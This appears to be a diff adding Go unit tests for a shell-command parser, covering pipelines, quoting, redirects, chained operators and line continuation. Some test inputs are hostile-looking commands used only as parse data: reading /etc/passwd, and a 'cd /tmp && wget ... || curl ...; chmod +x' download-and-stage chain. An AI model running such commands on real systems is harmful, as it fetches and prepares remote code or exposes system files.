@@ -0,0 +1,101 @@
+package os
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestParsePipeline(t *testing.T) {
+	list, err := parse(`cat /etc/passwd | grep "root user"; ls -l`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(list) != 2 {
+		t.Fatalf("Expect 2 pipelines, got %v", len(list))
+	}
+	if len(list[0].cmds) != 2 {
+		t.Fatalf("Expect 2 commands in pipeline, got %v", len(list[0].cmds))
+	}
+	if !reflect.DeepEqual(list[0].cmds[1].args, []string{"grep", `"root user"`}) {
+		t.Errorf("Args mismatch: %v", list[0].cmds[1].args)
+	}
+}
+
+func TestParseQuotedOperator(t *testing.T) {
+	list, err := parse(`echo 'a|b' a\|b "c;d"`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(list) != 1 || len(list[0].cmds) != 1 || len(list[0].cmds[0].args) != 4 {
+		t.Fatalf("Operators in quotes should not split command: %v", list[0].cmds[0].args)
+	}
+}
+
+func TestParseSyntaxError(t *testing.T) {
+	for _, line := range []string{"| ls", "ls |", "ls ||", "&& ls", "ls ;;", "echo 'abc"} {
+		if _, err := parse(line); err == nil {
+			t.Errorf("Expect syntax error for %v", line)
+		}
+	}
+}
+
+func TestParseRedirect(t *testing.T) {
+	list, err := parse(`wget -O- http://x/a >payload 2>&1 </dev/null; echo x>>/tmp/a`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	redirs := list[0].cmds[0].redirs
+	expect := []redirect{{1, ">", "payload", ""}, {2, ">&", "1", ""}, {0, "<", "/dev/null", ""}}
+	if !reflect.DeepEqual(redirs, expect) {
+		t.Errorf("Redirect mismatch: %v", redirs)
+	}
+	if !reflect.DeepEqual(list[1].cmds[0].args, []string{"echo", "x"}) || list[1].cmds[0].redirs[0].op != ">>" {
+		t.Errorf("Append redirect mismatch: %v %v", list[1].cmds[0].args, list[1].cmds[0].redirs)
+	}
+	if _, err := parse("echo >"); err == nil {
+		t.Error("Expect syntax error for missing redirect target")
+	}
+}
+
+func TestParseChain(t *testing.T) {
+	list, err := parse(`cd /tmp && wget http://x/a || curl http://x/a; chmod +x a`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	conds := []tokenType{}
+	for _, pl := range list {
+		conds = append(conds, pl.cond)
+	}
+	if !reflect.DeepEqual(conds, []tokenType{tokWord, tokAnd, tokOr, tokSemicolon}) {
+		t.Errorf("Condition mismatch: %v", conds)
+	}
+}
+
+func TestContinued(t *testing.T) {
+	tests := []struct {
+		line      string
+		continued bool
+	}{
+		{`echo a`, false},
+		{`echo a\`, true},
+		{`echo a\\`, false},
+		{`echo "a`, true},
+		{`echo 'a"`, true},
+		{`echo $(ls`, true},
+		{`ls |`, true},
+		{`true &&`, true},
+		{`echo a # b\`, false},
+		{`echo a &`, false},
+	}
+	for _, test := range tests {
+		if c := continued(test.line); c != test.continued {
+			t.Errorf("%v: expect %v, got %v", test.line, test.continued, c)
+		}
+	}
+	if line := joinLines(`echo a\`, "b"); line != "echo ab" {
+		t.Errorf("Expect echo ab, got %v", line)
+	}
+	if line := joinLines(`echo "a`, `b"`); line != "echo \"a\nb\"" {
+		t.Errorf("Expect newline kept in quotes, got %q", line)
+	}
+}